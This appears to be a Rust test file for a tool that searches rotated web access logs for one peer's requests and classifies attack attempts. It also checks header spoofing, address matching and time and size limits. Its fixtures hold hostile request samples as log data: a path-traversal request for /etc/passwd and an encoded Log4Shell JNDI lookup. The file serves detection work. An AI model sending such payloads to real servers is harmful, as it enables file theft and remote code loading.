//! Is everything said of a peer found across rotation, and nothing of anybody else?

use std::fs;
use std::io::Write;
use std::path::Path;

use super::*;
use tripoint_model::Verdict;

use crate::attempt;
use crate::locate::How;
use crate::stamp::Clock;

fn packed(path: &Path, text: &str) {
    let mut encoder = flate2::write::GzEncoder::new(fs::File::create(path).unwrap(), flate2::Compression::fast());
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap();
}

fn asked(folder: &Path, peer: &str, bytes_max: u64) -> LogEvidence {
    asked_behind(folder, peer, bytes_max, None)
}

fn asked_behind(folder: &Path, peer: &str, bytes_max: u64, proxy: Option<&str>) -> LogEvidence {
    let log = Log { path: "/access.log".into(), root: folder.into(), how: How::Layout, pattern: None };
    let proxy: Option<IpAddr> = proxy.map(|proxy| proxy.parse().unwrap());
    let is_proxy = |peer| Some(peer) == proxy;
    let clock = Clock::at("2026-06-15T12:00:00Z".parse().unwrap());
    let options = Options { format: None, clock, pack: attempt::pack(), is_proxy: &is_proxy };
    let query = Query { peer: peer.parse().unwrap(), since: None, bytes_max, is_over: &|| false };
    search(&[log], &query, &options)
}

fn line(peer: &str, target: &str) -> String {
    format!("{peer} - - [10/Jun/2026:13:55:36 +0000] \"GET {target} HTTP/1.1\" 404 12 \"-\" \"curl/8\"\n")
}

#[test]
fn a_peer_is_found_in_every_generation_and_no_neighbour() {
    let folder = tempfile::tempdir().unwrap();
    let attack = "/a?f=../../../etc/passwd";
    fs::write(folder.path().join("access.log"), line("203.0.113.9", "/") + &line("203.0.113.99", attack)).unwrap();
    packed(&folder.path().join("access.log.1.gz"), &(line("1203.0.113.9", attack) + &line("203.0.113.9", attack)));
    let found = asked(folder.path(), "203.0.113.9", 1 << 30);
    assert_eq!(found.lines, 2, "{found:#?}");
    assert_eq!(found.read.iter().map(|read| (read.lines, read.of_peer)).collect::<Vec<_>>(), [(2, 1), (2, 1)]);
    assert_eq!(found.verdict, Some(Verdict::Attempted));
    let hit = &found.attempts[0];
    assert_eq!((hit.line, hit.family.as_str(), hit.file.as_str()), (2, "path-traversal", "/access.log.1.gz"));
    assert!(asked(folder.path(), "198.51.100.1", 1 << 30).attempts.is_empty());
    let short = asked(folder.path(), "203.0.113.9", 40);
    assert!(short.missing[0].contains("a bound was met"), "{:?}", short.missing);
}

#[test]
fn every_way_to_write_an_address_is_known() {
    let folder = tempfile::tempdir().unwrap();
    let attack = "/a?f=../../../etc/passwd";
    let all = ["2001:db8::9", "2001:DB8::9", "2001:db8:0:0:0:0:0:9", "2001:0db8:0000:0000:0000:0000:0000:0009"];
    let text: String =
        all.iter().chain(&["2001:db8::9:1", "2001:db8::99", "12001:db8::9"]).map(|peer| line(peer, attack)).collect();
    fs::write(folder.path().join("access.log"), text).unwrap();
    assert_eq!(asked(folder.path(), "2001:db8::9", 1 << 30).lines, 4);
}

#[test]
fn what_would_have_the_server_call_the_peer_is_found_whoever_sent_it() {
    let folder = tempfile::tempdir().unwrap();
    let encoded = "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D";
    fs::write(
        folder.path().join("access.log"),
        line("198.51.100.7", encoded) + &line("198.51.100.8", "/?to=203.0.113.9"),
    )
    .unwrap();
    let found = asked(folder.path(), "203.0.113.9", 1 << 30);
    let jndi: Vec<&Attempt> = found.attempts.iter().filter(|one| one.family == "jndi").collect();
    assert_eq!((jndi.len(), jndi[0].line, jndi[0].remote), (1, 1, "198.51.100.7".parse().ok()), "{found:#?}");
    assert!(jndi[0].reasons.iter().any(|reason| reason == "what was sent names 203.0.113.9"), "{:?}", jndi[0].reasons);
    assert!(found.attempts.iter().all(|one| one.line == 1), "a mere mention is no attempt: {found:#?}");
}

/// Only a proxy that is known speaks for others; who writes another's address into a header tells nothing of him.
#[test]
fn headers_count_from_proxies_only_and_others_are_said_to_be_no_proof() {
    let folder = tempfile::tempdir().unwrap();
    let attack = "/a?f=../../../etc/passwd";
    let forwarded = line("198.51.100.7", attack).replace("\"curl/8\"", "\"curl/8\" \"203.0.113.9\"");
    fs::write(folder.path().join("access.log"), forwarded).unwrap();
    let spoofed = asked(folder.path(), "203.0.113.9", 1 << 30);
    assert!(spoofed.verdict.is_none() && !spoofed.attempts.is_empty(), "{spoofed:#?}");
    let reasons = &spoofed.attempts[0].reasons;
    assert!(
        reasons.iter().any(|reason| reason.contains("sent by 198.51.100.7, which is no known proxy")),
        "{reasons:?}"
    );
    let believed = asked_behind(folder.path(), "203.0.113.9", 1 << 30, Some("198.51.100.7"));
    assert_eq!(believed.verdict, Some(Verdict::Attempted));
    assert_eq!(believed.attempts[0].remote, "203.0.113.9".parse().ok());
    assert!(
        asked_behind(folder.path(), "198.51.100.7", 1 << 30, Some("198.51.100.7")).verdict.is_none(),
        "the proxy did nothing"
    );
}

#[test]
fn addresses_are_told_from_longer_ones() {
    for (text, name, is_there) in [
        ("b 203.0.113.9:80", "203.0.113.9", true),
        ("203.0.113.90", "203.0.113.9", false),
        ("1203.0.113.9", "203.0.113.9", false),
        ("203.0.113.9.1", "203.0.113.9", false),
        ("7.203.0.113.9", "203.0.113.9", false),
        ("end 203.0.113.9.", "203.0.113.9", true),
        ("x=%2F%2F203.0.113.9%3A80", "203.0.113.9", true),
        ("%20203.0.113.9", "203.0.113.9", true),
        ("[2001:db8::9]:80", "2001:db8::9", true),
        ("%5B2001:db8::9%5D", "2001:db8::9", true),
        ("2001:db8::9a", "2001:db8::9", false),
        ("2001:db8::9:1", "2001:db8::9", false),
    ] {
        assert_eq!(is_named(text, &[Finder::new(name.as_bytes())]), is_there, "{text}");
    }
}

/// Searches a log of `text` under a clock that moves one step each time it is looked at; the time is over after so many.
fn clocked(text: &[u8], steps: u64, bytes_max: u64) -> (LogEvidence, u64) {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("access.log"), text).unwrap();
    let log = Log { path: "/access.log".into(), root: folder.path().into(), how: How::Layout, pattern: None };
    let clock = Clock::at("2026-06-15T12:00:00Z".parse().unwrap());
    let options = Options { format: None, clock, pack: attempt::pack(), is_proxy: &|_| false };
    let looks = std::cell::Cell::new(0);
    let is_over = || {
        looks.set(looks.get() + 1);
        looks.get() > steps
    };
    let query = Query { peer: "203.0.113.9".parse().unwrap(), since: None, bytes_max, is_over: &is_over };
    (search(&[log], &query, &options), looks.get())
}

#[test]
fn time_is_looked_at_by_what_lines_cost() {
    // Lines that name the peer are looked at each: the time is over within a few of them.
    let (found, _) = clocked(line("203.0.113.9", "/a").repeat(1000).as_bytes(), 20, 1 << 30);
    assert!(found.read[0].lines < 25, "{:?}", found.read);
    assert!(found.missing[0].contains("only, a bound was met"), "{:?}", found.missing);
    // Lines of others cost little: the clock is looked at by their bytes.
    let others = line("198.51.100.1", "/a").repeat(20_000);
    let (found, looks) = clocked(others.as_bytes(), u64::MAX, 1 << 30);
    assert_eq!((found.read[0].lines, found.missing.len()), (20_000, 0), "{:?}", found.missing);
    assert!(looks > others.len() as u64 / (80 << 10) && looks < 200, "{looks}");
}

#[test]
fn a_line_without_end_is_bounded_too() {
    let (found, _) = clocked(&vec![b'x'; 8 << 20], 8, 1 << 30);
    assert!(found.missing[0].contains("read to line 0 only, a bound was met"), "{:?}", found.missing);
    let (found, _) = clocked(&vec![b'x'; 8 << 20], u64::MAX, 1 << 20);
    assert!(found.missing[0].contains("read to line 0 only, a bound was met"), "{:?}", found.missing);
    // What a line holds beyond what is looked at counts too.
    let long = [vec![b'x'; 600 << 10], b"\n".to_vec(), line("203.0.113.9", "/a").into_bytes()].concat();
    let (found, _) = clocked(&long, u64::MAX, 512 << 10);
    assert_eq!(found.read[0].lines, 1, "{:?}", found.missing);
}
